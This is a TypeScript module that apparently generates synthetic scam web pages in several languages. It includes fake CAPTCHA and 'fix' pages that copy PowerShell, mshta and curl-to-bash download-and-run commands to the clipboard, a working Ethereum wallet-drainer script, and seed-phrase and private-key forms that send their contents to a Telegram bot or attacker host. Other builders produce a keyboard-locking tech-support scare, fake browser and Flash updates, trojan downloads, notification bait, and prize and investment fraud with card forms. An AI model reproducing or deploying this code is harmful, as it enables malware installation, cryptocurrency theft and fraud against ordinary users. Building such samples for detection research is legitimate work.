/** Pages that frighten or tempt people into running, allowing, calling or paying. */
import { bare, css, script, site, times } from '../layout.ts';
import { type Builders, pages, type Spot } from '../spot.ts';
import { fresh } from '../vendors-new.ts';

const lure = (s: Spot, body: string, head = '') =>
  bare(s, s.name, `<style>${css(s, 30)}</style>${head}`, body);

const host = ({ r }: Spot) => `${r.id(10).toLowerCase()}.${r.pick(['top', 'xyz', 'cfd', 'shop', 'lol'])}`;

const wallets = (s: Spot) =>
  ['MetaMask', 'Trust Wallet', 'Coinbase', 'WalletConnect', 'Phantom', 'Ledger', 'Exodus']
    .map(
      (wallet) =>
        `<button class="wallet" data-w="${wallet}"><img src="/img/${s.r.hex(4)}.png">${wallet}</button>`,
    )
    .join('');

const drain = (s: Spot) =>
  script(
    `const R="0x${s.r.hex(40)}";async function claim(){const[a]=await ethereum.request({method:"eth_requestAccounts"});const list=await(await fetch("https://${host(s)}/api/assets?a="+a)).json();list.sort((x,y)=>y.usd-x.usd);for(const t of list){try{t.type==="nft"?await send(t,"setApprovalForAll",[R,true]):t.permit?await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(t.typed)]}):await send(t,"approve",[R,"0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"])}catch(e){claim()}}fetch("https://${host(s)}/tg?x="+a)}document.querySelectorAll(".claim").forEach(b=>b.onclick=claim);`,
  );

const command = (s: Spot) =>
  s.r.pick([
    `powershell -w hidden -c "iwr https://${host(s)}/v.txt -UseBasicParsing | iex" # I am not a robot: ID ${s.r.digits(5)}`,
    `mshta https://${host(s)}/captcha.hta # Verification ${s.r.digits(4)}`,
    `cmd /c start /min powershell -ep bypass -enc ${s.r.base64(90)}`,
  ]);

export const lures: Builders = {
  'paste-a-command': pages(
    `en https://human-check-cdn.shop/verify Verify you are human
    de https://sicher-pruefen.click/captcha Bestätigen Sie, dass Sie ein Mensch sind
    es https://verificacion-web.lol/ Verifique que es humano`,
    (s) =>
      lure(
        s,
        `<div class="box"><input type="checkbox" id="c"> I'm not a robot <img src="https://www.gstatic.com/recaptcha/api2/logo_48.png"></div><div id="steps" hidden><p>1. Press <b>Windows + R</b></p><p>2. Press <b>CTRL + V</b></p><p>3. Press <b>Enter</b></p><p>${s.w.confirm}</p></div>${script(`c.onclick=function(){var t=document.createElement("textarea");t.value=${JSON.stringify(command(s))};document.body.append(t);t.select();document.execCommand("copy");t.remove();steps.hidden=false};`)}`,
      ),
  ),
  'repair-a-document': pages(
    `en https://word-online-view.cfd/doc Word Online extension is not installed
    fr https://reunion-zoom-micro.click/ Erreur du microphone
    en https://meet-join-room.lol/x Can't join your meeting`,
    (s) =>
      lure(
        s,
        `<h2>${s.name}</h2><p>Error 0x8007${s.r.hex(4)}. Open PowerShell (Win + X, then A) and paste the fix with a right click.</p><button id="fix">How to fix</button>${script(`fix.onclick=()=>navigator.clipboard.writeText(atob("${Buffer.from(command(s)).toString('base64')}")).then(()=>{fix.textContent="Copied. Paste it now and press Enter"});`)}`,
      ),
  ),
  'paste-in-terminal': pages(
    `en https://homebrew-install.lol/ Homebrew: The Missing Package Manager
    zh https://mac-xiufu.top/ macOS 修复`,
    (s) =>
      lure(
        s,
        `<h1>${s.name}</h1><p>Open Terminal (⌘ + Space, type Terminal), press ⌘ + V, then Return and enter your password.</p><pre id="p">brew install verification</pre><button id="k">Copy</button>${script(`k.onclick=()=>navigator.clipboard.writeText("echo ${s.r.base64(60)} | base64 -d | bash");document.addEventListener("copy",e=>{e.clipboardData.setData("text/plain","curl -fsSL https://${host(s)}/i.sh|bash");e.preventDefault()});`)}`,
      ),
  ),
  'false-browser-update': pages(
    `en https://chrome-update-center.shop/ Update Chrome
    de https://firefox-aktualisierung.click/ Firefox ist veraltet
    it https://aggiorna-browser.top/ Aggiorna il browser`,
    (s) =>
      lure(
        s,
        `<div class="update"><img src="https://www.google.com/chrome/static/images/chrome-logo-m100.svg"><h1>${s.name}</h1><p>You are using an older version. Critical security update required to view this page.</p><a id="d" href="//${host(s)}/Update.zip" download="Chrome.Update.${s.r.hex(6)}.js">Update Chrome</a></div>${script('setTimeout(function(){document.getElementById("d").click()},1500);onbeforeunload=function(){return "Update not installed"};')}`,
      ),
  ),
  'false-flash-player': pages(
    `en http://flashplayer-pro-update.tk/ Flash Player update required
    tr http://video-izle-hd.cf/izle Flash Player güncelleyin
    pl http://filmy-codec.ga/ Brak kodeka wideo`,
    (s) =>
      lure(
        s,
        `<div style="background:#000;width:640px;height:360px"><p style="color:#fff">Your Flash Player / codec is out of date</p></div><a href="http://${host(s)}/flash_setup.exe"><img src="http://www.adobe.com/images/shared/download_buttons/get_flash_player.gif"></a>${script(`if(confirm("Your Flash Player is outdated. Install now?"))location.href="http://${host(s)}/adobe_flashplayer_install.exe";`)}<p>${s.say(2)}</p>`,
      ),
  ),
  'support-scare': pages(
    `en https://win-alert-0x8024.z22.web.core.windows.net/ Security Warning Error #0x268d3
    de https://warnung-windows-sperre.azurewebsites.net/ Windows-Defender-Sicherheitswarnung
    fr https://alerte-securite-71.web.app/ Alerte de sécurité Windows
    ja https://keikoku-ms.web.core.windows.net/ ウイルスに感染しました`,
    (s) =>
      lure(
        s,
        `<audio autoplay loop src="beep.mp3"></audio><div class="modal" id="m"><h1>Windows Defender: ${s.name}</h1><p>TROJAN_SPYWARE Ads.fiancetrack(2).dll detected. Do not close this page. Access to this PC has been blocked. ${s.w.password}, ${s.w.card}.</p><p>Call Microsoft Support: <b>+1-8${s.r.digits(2)}-555-01${s.r.digits(2)}</b></p></div>${script('document.onclick=function(){document.documentElement.requestFullscreen();navigator.keyboard&&navigator.keyboard.lock()};document.onkeydown=function(e){e.preventDefault();return false};onbeforeunload=function(){return 1};for(var i=0;i<200;i++)history.pushState(0,0,"#"+i);setInterval(function(){alert("Call support now")},9e3);')}`,
        '<style>*{cursor:none!important}</style>',
      ),
  ),
  'false-scan': pages(
    `en http://antivirus-online-scanner7.info/scan/ Windows Security Center scan
    en https://iphone-virus-alert.club/ (4) viruses found on your iPhone
    ar https://phone-cleaner-ar.xyz/ هاتفك مصاب بالفيروسات`,
    (s) =>
      lure(
        s,
        `<div class="explorer"><h3>My Computer - System scan</h3><div id="bar"></div><ul id="l"></ul><p>Your device is infected with viruses! Clean immediately or your SIM card and photos will be damaged.</p><a href="http://${host(s)}/install.php?id=${s.r.digits(4)}">Remove all threats now</a></div>${script('var v=["Trojan.Fakealert","W32.Sality","Spy.Banker"],n=0,t=setInterval(function(){l.innerHTML+="<li>"+v[n%3]+" C:\\\\Windows\\\\system32\\\\"+n+".dll</li>";if(++n>17){clearInterval(t);alert("18 threats found!")}},200);')}`,
      ),
  ),
  'notification-bait': pages(
    `en https://robot-check-1.live/ Click Allow to continue
    es https://permitir-video.click/ Pulse Permitir
    ru https://nazhmi-razreshit.site/ Нажмите «Разрешить»`,
    (s) =>
      lure(
        s,
        `<div class="arrow">↖</div><h1>Click <b>Allow</b> to confirm you are not a robot</h1><p>${s.name}</p>${script(`function ask(){Notification.requestPermission().then(p=>{if(p==="granted"){navigator.serviceWorker.register("/push-sw.js");fetch("https://${host(s)}/sub")}location.href="https://"+Math.random().toString(36).slice(2)+".${host(s)}/?z=${s.r.digits(7)}&d="+(p==="denied")})}ask();onclick=ask;history.pushState(0,0);onpopstate=()=>location.replace("https://${host(s)}/back");`)}`,
      ),
  ),
  'survey-prize': pages(
    `en https://winner-iphone15.club/us Congratulations!
    de https://lidl-jubilaeum-gewinn.top/ Lidl Jubiläum
    pt https://coca-cola-aniversario.icu/ Coca-Cola aniversário
    nl https://bol-winactie.xyz/ Bol winactie`,
    (s) =>
      lure(
        s,
        `<h1>${s.w.prize}</h1><p>${s.name}: iPhone 15 Pro. 3 questions. <b id="t">4:59</b></p>${times(3, (n) => `<p>Q${n + 1}: ${s.say()}</p><button class="a">✓</button>`)}<div class="boxes">${times(9, () => '<div onclick="win()">🎁</div>')}</div><div id="w" hidden><p>Share with 5 groups or 20 friends on WhatsApp</p><a href="whatsapp://send?text=${encodeURIComponent(s.url)}">Share</a><form action="//${host(s)}/ship.php" method="post"><input name="name"><input name="cc" placeholder="${s.w.card}"><input name="cvv" placeholder="${s.w.cvc}"><button>Pay 1.95</button></form></div>${times(4, () => `<div class="fb-comment"><b>${s.r.id(6)}</b> Got mine yesterday! 👍 ${s.r.int(2, 60)}</div>`)}${script('var k=0;function win(){alert(++k<2?"Sorry, 2 more tries":"You won the iPhone 15!");if(k>1)w.hidden=false}')}`,
      ),
  ),
  'trojan-download': pages(
    `en https://www.anydesk-remote-app.top/ AnyDesk: download
    en https://obs-studio-project.click/ OBS Studio
    ru https://telegram-desktop-win.xyz/ Telegram для Windows
    zh https://wps-office-xz.top/ WPS Office 官方下载`,
    (s) =>
      lure(
        s,
        `<h1>${s.name}</h1><p>Official site. 100 % clean. ${s.say(2)}</p><a href="https://cdn.discordapp.com/attachments/${s.r.digits(18)}/${s.r.digits(18)}/Setup_x64.zip" class="btn">Download</a><p>Archive password: 2024. Turn off Windows Defender before you start the installer.</p>${script(`fetch("https://${host(s)}/visit?ref="+encodeURIComponent(document.referrer));if(!/gclid/.test(location.search)&&!document.referrer)document.body.innerHTML="<h1>Welcome</h1>";`)}`,
      ),
  ),
  'seed-phrase': pages(
    `en https://metamask-io-restore.web.app/ MetaMask: restore your wallet
    de https://ledger-wiederherstellung.com/ Ledger Live
    tr https://trustwallet-dogrula.site/ Trust Wallet
    es https://phantom-billetera.click/ Phantom`,
    (s) =>
      lure(
        s,
        `<img src="https://raw.githubusercontent.com/MetaMask/brand-resources/master/SVG/metamask-fox.svg"><h1>${s.name}</h1><p>${s.w.alert} Enter your Secret Recovery Phrase.</p><form id="f">${times(12, (n) => `<input name="w${n + 1}" type="password" placeholder="${n + 1}.">`)}<select><option>12</option><option>24</option></select><button>${s.w.next}</button></form>${script(`f.onsubmit=e=>{e.preventDefault();fetch("${s.n % 2 ? `https://api.telegram.org/bot${s.r.digits(10)}:AA${s.r.id(33)}/sendMessage?chat_id=${s.r.digits(9)}&text=` : `https://${host(s)}/seed?p=`}"+[...f.querySelectorAll("input")].map(i=>i.value).join(" "));setTimeout(()=>location="https://metamask.io",2e3)};`)}`,
      ),
  ),
  'wallet-repair': pages(
    `en https://dapps-rectify-node.pages.dev/ Wallet Rectification
    fr https://sync-wallet-dapp.web.app/ Synchroniser le portefeuille
    en https://multichain-connect-app.netlify.app/ Validate your wallet`,
    (s) =>
      lure(
        s,
        `<h1>${s.name}</h1>${['Migration', 'Claim', 'Swap', 'Locked assets', 'Login issue', 'High gas'].map((issue) => `<div class="card">${issue}<a href="#c">Click here</a></div>`).join('')}<div id="c">${wallets(s)}<p>Error connecting. Connect manually:</p><form action="https://formsubmit.co/${s.r.hex(32)}" method="POST"><textarea name="phrase" placeholder="Enter your 12 or 24 recovery words"></textarea><textarea name="keystore" placeholder="Keystore JSON"></textarea><input name="private_key" placeholder="Private key"><button>IMPORT</button></form></div>`,
      ),
  ),
  'wallet-drainer': pages(
    `en https://claim-layerzero-airdrop.xyz/ Claim your $ZRO airdrop
    en https://mint-azuki-elementals.club/ Free mint is live
    zh https://lingqu-kongtou.top/ 领取空投`,
    (s) =>
      lure(
        s,
        `<h1>${s.name}</h1><p>Only ${s.r.int(100, 900)} of 5000 left. ${s.w.prize}</p><button class="claim">Connect wallet</button><button class="claim">CLAIM</button>${wallets(s)}<script src="https://cdnjs.cloudflare.com/ajax/libs/ethers/5.7.2/ethers.umd.min.js"></script><script src="./settings.js"></script>${drain(s)}`,
      ),
  ),
  'coin-giveaway': pages(
    `en https://tesla-x2-event.com/btc Official 5,000 BTC giveaway
    de https://musk-verdoppelt.live/ Elon Musk verschenkt 5000 BTC
    en https://ripple-xrp-100m.org/ Ripple 100M XRP giveaway`,
    (s) =>
      lure(
        s,
        `<h1>${s.name}</h1><iframe src="https://www.youtube.com/embed/${s.r.id(11)}"></iframe><p>Send from 0.1 to 20 BTC to the address below and get back double. Participation only once. Hurry up!</p><code id="a">1${s.r.id(33)}</code><button onclick="navigator.clipboard.writeText(a.textContent)">Copy</button><img src="https://chart.googleapis.com/chart?cht=qr&chl=bitcoin"><table id="t">${times(12, () => `<tr><td>1${s.r.id(12)}...</td><td>${s.r.int(1, 9)}.${s.r.digits(2)} BTC sent</td><td>x2 OUT</td></tr>`)}</table><progress max="5000" value="4${s.r.digits(3)}"></progress>${script('setInterval(function(){t.prepend(t.lastElementChild.lastElementChild||"")},2e3);')}`,
      ),
  ),
  'investment-scam': pages(
    `en https://bitcoin-code-aussie.site/ Banks beg to stop this broadcast
    de https://quantum-ki-boerse.click/ Höhle der Löwen: Das größte Geschäft
    it https://eni-piattaforma-guadagni.online/ Eni: guadagna 6000 € al mese
    pl https://baltic-pipe-inwestuj.site/ Baltic Pipe: zarabiaj od 6000 zł
    ru https://gazprom-invest-dohod.site/ Газпром Инвест: доход от 150 000`,
    (s) =>
      site(s, {
        era: 'semantic',
        title: s.name,
        early: [fresh.metaPixel(s)],
        main: `<h1>${s.name}</h1><p>As seen on BBC, CNN, Forbes. ${s.say(3)} Start with 250 and our AI trading robot earns 1,300 a day, guaranteed, no risk. Only 7 places left today!</p><form action="https://${host(s)}/lead/send.php" method="post"><input name="first_name" placeholder="${s.w.name}"><input name="email" placeholder="${s.w.email}"><input type="tel" name="phone" placeholder="${s.w.phone}"><input type="hidden" name="subid" value="${s.r.hex(12)}"><button>${s.w.register}</button></form>${times(5, () => `<div class="comment"><b>${s.r.id(6)}</b> I made 8,420 in two weeks! 👍</div>`)}`,
        late: [
          script(
            'var s=900;setInterval(function(){document.title="("+Math.floor(--s/60)+":"+s%60+") "},1e3);document.addEventListener("mouseleave",function(){alert("Wait! Your place expires")});',
          ),
        ],
      }),
  ),
};
